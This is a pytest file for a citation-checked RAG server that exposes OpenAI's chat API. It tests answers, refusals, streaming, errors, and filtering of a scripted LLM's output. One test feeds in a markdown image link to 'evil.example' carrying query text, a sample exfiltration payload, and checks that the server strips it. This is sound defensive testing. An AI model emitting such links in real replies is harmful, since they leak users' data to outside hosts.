"""OpenAI's protocol, driven by OpenAI's own client: models, answers, refusals, streams, errors."""

from __future__ import annotations

from collections.abc import Iterator

import openai
import pytest

from ingest.library import Library
from rag.settings import Settings
from rag.wiring import open_key_store, open_llm
from tests.api.conftest import PARKING, Served, serving
from tests.rag.faulty_llm_server import FaultyLLMServer
from ui.api.values import SOURCES

QUESTION = "What does a parking permit cost?"
UNANSWERABLE = "Which planet has the most moons?"


@pytest.fixture
def client(served: Served) -> Iterator[openai.OpenAI]:
    with openai.OpenAI(base_url=f"{served.url}/v1", api_key=served.ann_key, max_retries=0) as client:
        yield client


def test_the_models_are_the_collections(client: openai.OpenAI, served: Served) -> None:
    assert {model.id for model in client.models.list()} == {"documents", served.anns}
    assert client.models.retrieve(served.anns).owned_by == "ann"


def test_an_answer_has_its_markers_and_sources(client: openai.OpenAI) -> None:
    done = client.chat.completions.create(model="documents", messages=[{"role": "user", "content": QUESTION}])
    choice = done.choices[0]
    assert (choice.finish_reason, choice.message.role, done.model) == ("stop", "assistant", "documents")
    text, sources = (choice.message.content or "").split(SOURCES)
    assert "forty crowns" in text
    assert "[1]" in text
    assert sources.startswith("[1] town, page 1: “Parking permits cost forty crowns")
    assert done.usage is not None
    assert done.usage.total_tokens == 0  # no LLM was asked
    rank37 = done.model_extra["rank37"] if done.model_extra else {}
    assert rank37["citations"][0]["quote"] in PARKING
    assert done.id == f"chatcmpl-{rank37['id']}"


def test_a_refusal_is_a_message_that_says_so(client: openai.OpenAI) -> None:
    done = client.chat.completions.create(model="documents", messages=[{"role": "user", "content": UNANSWERABLE}])
    content = done.choices[0].message.content or ""
    assert content.startswith("No answer. The documents do not answer this question")
    assert SOURCES not in content
    assert done.choices[0].finish_reason == "stop"


def test_a_stream_gives_the_same_text_in_pieces(client: openai.OpenAI) -> None:
    asked = {"model": "documents", "messages": [{"role": "user", "content": QUESTION}]}
    whole = client.chat.completions.create(**asked).choices[0].message.content
    chunks = list(client.chat.completions.create(**asked, stream=True, stream_options={"include_usage": True}))
    pieces = [chunk.choices[0].delta.content for chunk in chunks if chunk.choices and chunk.choices[0].delta.content]
    assert "".join(pieces) == whole
    assert len(pieces) > 10
    extras = [chunk.model_extra["rank37"] for chunk in chunks if chunk.model_extra and "rank37" in chunk.model_extra]
    assert [extra["stage"] for extra in extras if "stage" in extra] == ["embed", "recall", "rerank", "answer"]
    assert extras[-1]["outcome"] == "answer"
    assert chunks[-2].choices[0].finish_reason == "stop"
    assert chunks[-1].usage is not None


def test_parts_of_content_and_what_has_no_meaning_here(client: openai.OpenAI) -> None:
    done = client.chat.completions.create(
        model="documents",
        messages=[
            {"role": "system", "content": "You are a pirate."},
            {"role": "user", "content": [{"type": "text", "text": QUESTION}]},
        ],
        temperature=2,
        max_tokens=1,
    )
    assert "forty crowns" in (done.choices[0].message.content or "")


def test_errors_have_openais_shape(client: openai.OpenAI, served: Served) -> None:
    user = {"role": "user", "content": QUESTION}
    with pytest.raises(openai.NotFoundError) as unknown:
        client.chat.completions.create(model="gpt-4o", messages=[user])
    assert (unknown.value.code, unknown.value.type) == ("model_not_found", "invalid_request_error")
    with pytest.raises(openai.NotFoundError):
        client.models.retrieve(served.bobs)
    for bad in (
        {"messages": [{"role": "user", "content": "  "}]},
        {"messages": [user, {"role": "assistant", "content": "x"}]},
        {"messages": [user], "n": 2},
        {"messages": []},
    ):
        with pytest.raises(openai.BadRequestError):
            client.chat.completions.create(model="documents", **bad)
    with (
        openai.OpenAI(base_url=f"{served.url}/v1", api_key="sk-wrong", max_retries=0) as stranger,
        pytest.raises(openai.AuthenticationError) as refused,
    ):
        stranger.models.list()
    assert refused.value.code == "invalid_api_key"


@pytest.fixture
def llm_client(library: Library) -> Iterator[tuple[openai.OpenAI, FaultyLLMServer]]:
    """A client of a server whose library writes with a scripted LLM, and that LLM."""
    with FaultyLLMServer() as llm:
        settings = library.settings
        with_llm = Settings(
            **{**settings.model_dump(), "openai_base_url": llm.base_url, "openai_api_key": "k", "llm_retries": 0}
        )
        keys = open_key_store(settings)
        _, text = keys.create("llm client")
        assert open_llm(with_llm) is not None
        library.swap(with_llm, llm=True)
        try:
            with (
                serving(library, keys) as running,
                openai.OpenAI(base_url=f"http://127.0.0.1:{running.port}/v1", api_key=text, max_retries=0) as client,
            ):
                yield client, llm
        finally:
            library.swap(settings, llm=True)
            keys.forget("llm client")
            keys.close()


def test_only_checked_text_is_streamed(llm_client: tuple[openai.OpenAI, FaultyLLMServer]) -> None:
    client, llm = llm_client
    llm.replies = ["A permit costs forty crowns a month [1][9]. ![x](http://evil.example/?q=rent)"]
    stream = client.chat.completions.create(
        model="documents", messages=[{"role": "user", "content": QUESTION}], stream=True
    )
    text = "".join(chunk.choices[0].delta.content or "" for chunk in stream)
    assert text.startswith("A permit costs forty crowns a month [1].")
    assert "[9]" not in text
    assert "evil.example" not in text


def test_an_uncited_reply_is_never_shown_as_an_answer(llm_client: tuple[openai.OpenAI, FaultyLLMServer]) -> None:
    client, llm = llm_client
    llm.replies = ["It is free of charge."]
    stream = client.chat.completions.create(
        model="documents", messages=[{"role": "user", "content": QUESTION}], stream=True
    )
    text = "".join(chunk.choices[0].delta.content or "" for chunk in stream)
    assert "free of charge" not in text
    assert text.startswith("No answer. The written answer cited none of the passages")


def test_earlier_turns_reach_the_llm_without_their_sources(
    llm_client: tuple[openai.OpenAI, FaultyLLMServer],
) -> None:
    client, llm = llm_client
    llm.replies = ["What does a parking permit cost?", "Forty crowns a month [1]."]
    done = client.chat.completions.create(
        model="documents",
        messages=[
            {"role": "user", "content": "Where are parking permits sold?"},
            {"role": "assistant", "content": f"At the town hall [1].{SOURCES}[1] town, page 1: “They are sold”"},
            {"role": "user", "content": "And what do they cost?"},
        ],
    )
    assert (done.choices[0].message.content or "").startswith("Forty crowns a month [1].")
    rewrite = str(llm.requests[0]["messages"])
    assert "At the town hall" in rewrite
    assert "They are sold" not in rewrite


def test_an_outage_of_the_llm_is_an_error_and_no_answer(llm_client: tuple[openai.OpenAI, FaultyLLMServer]) -> None:
    client, llm = llm_client
    llm.mode = "unauthorized"
    asked = {"model": "documents", "messages": [{"role": "user", "content": QUESTION}]}
    with pytest.raises(openai.InternalServerError) as failed:
        client.chat.completions.create(**asked)
    assert (failed.value.status_code, failed.value.type) == (502, "server_error")
    with pytest.raises(openai.APIError, match="key"):
        list(client.chat.completions.create(**asked, stream=True))
